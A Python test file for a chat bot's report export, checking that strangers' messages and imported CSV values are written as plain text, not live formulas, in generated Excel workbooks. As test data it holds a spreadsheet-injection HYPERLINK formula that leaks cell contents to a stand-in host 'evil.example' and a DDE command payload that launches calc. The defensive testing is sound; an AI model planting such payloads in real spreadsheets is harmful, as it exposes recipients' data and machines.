"""Text from strangers and imports stays text: no formulas in workbooks, no mathtext."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from tests.conftest import OFFICER_ID, BotHarness, text_of
from tests.test_reports_flow import by_method, download, methods

HEADER = (
    "ref,company_nib,company_name,commodity,hs_code,destination,form,status,note,"
    "submitted_at,volume_tonnes,value_usd\n"
)
HOSTILE = '=HYPERLINK("http://evil.example/?x="&B5,"Lihat lampiran")'


def _cells(wb) -> list:  # type: ignore[no-untyped-def]
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


async def test_a_strangers_formula_is_text_in_the_stats_workbook(bot: BotHarness) -> None:
    await bot.say(HOSTILE, user_id=1001)
    await bot.say("+cmd|' /C calc'!A0", user_id=1002)
    calls = await bot.say("/stats 30 excel", user_id=OFFICER_ID)
    doc = by_method(calls, "sendDocument")[0].result["document"]
    wb = load_workbook(io.BytesIO(await download(bot, doc["file_id"])))
    unanswered = [c for c in _cells(wb) if isinstance(c.value, str) and c.value.startswith(("=", "+"))]
    # the gap report groups questions in lower case
    assert {c.value for c in unanswered} == {HOSTILE.lower(), "+cmd|' /c calc'!a0"}
    # a formula would load with data_type "f"; a quote prefix keeps it text when edited
    assert all(c.data_type == "s" and c.quotePrefix for c in unanswered)
    assert not [c for c in _cells(wb) if c.data_type == "f"]


async def test_imported_values_are_text_in_the_report_and_labels_are_not_mathtext(bot: BotHarness) -> None:
    rows = [
        "H-1,111,=1+1,Plywood $\\undefinedmacro$,4412,JP,IJEPA,issued,,2026-11-02,10,1000",
        "H-2,222,@evil,-2+3,4412,JP,IJEPA,issued,,2026-11-03,5,500",
        "H-3,333,PT Tiga,\tTab,4412,CN,ACFTA,issued,,2026-11-04,1,100",
    ]
    report = bot.services.importer.import_text(HEADER + "\n".join(rows) + "\n")
    assert report.errors == [] and report.created == 3
    calls = await bot.say("/report 2026", user_id=OFFICER_ID)
    # the chart used to fail on the commodity's '$\undefinedmacro$'
    assert methods(calls) == ["sendMessage", "sendPhoto", "sendDocument"], text_of(calls)
    assert "Plywood $\\undefinedmacro$" in text_of(by_method(calls, "sendMessage"))
    doc = by_method(calls, "sendDocument")[0].result["document"]
    wb = load_workbook(io.BytesIO(await download(bot, doc["file_id"])))
    texts = {c.value: c for c in _cells(wb) if isinstance(c.value, str)}
    for value in ("=1+1", "-2+3", "@evil", "Plywood $\\undefinedmacro$"):
        assert value in texts, sorted(texts)
        assert texts[value].data_type == "s"
    assert not [c for c in _cells(wb) if c.data_type == "f"]
